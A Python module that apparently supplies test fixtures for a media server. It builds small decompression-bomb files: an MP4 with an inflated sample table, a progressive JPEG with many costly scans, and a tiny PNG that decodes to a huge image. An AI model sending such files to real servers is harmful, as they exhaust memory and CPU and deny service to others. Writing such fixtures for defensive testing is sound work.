"""Small bodies that cost much to read, as somebody sends them who wants to hurt a server."""

from __future__ import annotations

import struct


def bomb_of_samples(samples: int, tracks: int = 1) -> bytes:
    """An MP4 of a few hundred bytes whose table says that it has so many samples of one byte."""
    seconds = 10
    scale = max(1, min(2**32 - 1, samples // seconds))
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    movie = struct.pack(">5IH", 0, 0, 1000, seconds * 1000, 0x10000, 0x100)
    movie_header = _full(b"mvhd", movie + bytes(10) + matrix + bytes(24) + struct.pack(">I", 2))
    track = struct.pack(">5I", 0, 0, 1, 0, seconds * 1000) + bytes(8) + bytes(8)
    track_header = _full(b"tkhd", track + matrix + struct.pack(">II", 64 << 16, 48 << 16), flags=7)
    media_header = _full(b"mdhd", struct.pack(">IIIIHH", 0, 0, scale, samples, 0x55C4, 0))
    handler = _full(b"hdlr", bytes(4) + b"vide" + bytes(12) + b"v\0")
    form = bytes(6) + struct.pack(">H", 1) + bytes(16) + struct.pack(">HHII", 64, 48, 0x480000, 0x480000)
    entry = _box(b"mp4v", form + bytes(4) + struct.pack(">H", 1) + bytes(32) + struct.pack(">Hh", 24, -1))
    table = _box(
        b"stbl",
        _full(b"stsd", struct.pack(">I", 1) + entry)
        + _full(b"stts", struct.pack(">III", 1, samples, 1))
        + _full(b"stsc", struct.pack(">IIII", 1, 1, samples, 1))
        + _full(b"stsz", struct.pack(">II", 1, samples))
        + _full(b"stco", struct.pack(">II", 1, 40)),
    )
    place = _box(b"dinf", _full(b"dref", struct.pack(">I", 1) + _full(b"url ", b"", flags=1)))
    information = _box(b"minf", _full(b"vmhd", bytes(8), flags=1) + place + table)
    whole = _box(b"trak", track_header + _box(b"mdia", media_header + handler + information))
    head = _box(b"ftyp", b"isom\0\0\2\0isomiso2") + _box(b"mdat", bytes(64))
    return head + _box(b"moov", movie_header + whole * tracks)


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), kind) + content


def _full(kind: bytes, content: bytes, flags: int = 0) -> bytes:
    return _box(kind, struct.pack(">I", flags) + content)


def bomb_of_scans(width: int, height: int, scans: int) -> bytes:
    """A small progressive JPEG; each of its scans makes the decoder walk over all blocks again."""
    blocks = -(-width // 8) * -(-height // 8)
    bits, left = "", blocks
    while left > 0:
        run = min(max(left, 16384), 32767)
        bits += "0" + format(run - 16384, "014b")
        left -= run
    bits += "1" * (-len(bits) % 8)
    ends = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8)).replace(b"\xff", b"\xff\0")
    one_code = bytes([1, *[0] * 15])
    head = (
        b"\xff\xd8"
        + _segment(0xDB, b"\0" + b"\1" * 64)
        + _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0]))
        + _segment(0xC4, b"\0" + one_code + b"\0")
        + _segment(0xC4, b"\x10" + one_code + b"\xe0")
        + _segment(0xDA, bytes([1, 1, 0x00, 0, 0, 0]))
        + bytes(-(-blocks // 8))
    )
    return head + (_segment(0xDA, bytes([1, 1, 0x00, 1, 63, 0])) + ends) * scans + b"\xff\xd9"


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def png_of_zeros(width: int, height: int) -> bytes:
    """A PNG of 16 bits and four channels that is as large as it says, and small as a file."""
    import zlib

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 0))
    packed = zlib.compress(bytes((1 + width * 8) * height))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
